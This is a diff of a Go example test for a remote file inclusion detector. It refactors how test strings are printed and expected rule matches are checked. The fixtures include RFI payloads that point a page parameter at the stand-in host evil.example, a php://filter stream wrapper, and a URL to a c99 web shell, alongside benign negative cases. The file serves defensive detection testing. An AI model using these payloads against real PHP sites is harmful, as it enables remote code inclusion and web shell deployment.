@@ -1,16 +1,12 @@
 package rfi_test
 
 import (
-	"fmt"
-
 	"github.com/tangoguard/tangoguard/internal/detect/detecttest"
 	"github.com/tangoguard/tangoguard/internal/detect/rfi"
 )
 
 func ExampleDetector_reported() {
-	for _, s := range []string{"/a.php?page=http://evil.example/x.txt?", "php://filter/resource=a", "http://evil.example/c99.php"} {
-		fmt.Println(detecttest.Rules(rfi.Class, s))
-	}
+	detecttest.Print(rfi.Detector(), "/a.php?page=http://evil.example/x.txt?", "php://filter/resource=a", "http://evil.example/c99.php")
 	// Output:
 	// [cut-off-url]
 	// [stream-wrapper]
@@ -18,9 +14,7 @@ func ExampleDetector_reported() {
 }
 
 func ExampleDetector_notReported() {
-	for _, s := range []string{"https://example.org/sharer.php?u=https://example.org/", "read http://example.org/a.txt?", "data: text"} {
-		fmt.Println(detecttest.Rules(rfi.Class, s))
-	}
+	detecttest.Print(rfi.Detector(), "https://example.org/sharer.php?u=https://example.org/", "read http://example.org/a.txt?", "data: text")
 	// Output:
 	// []
 	// []
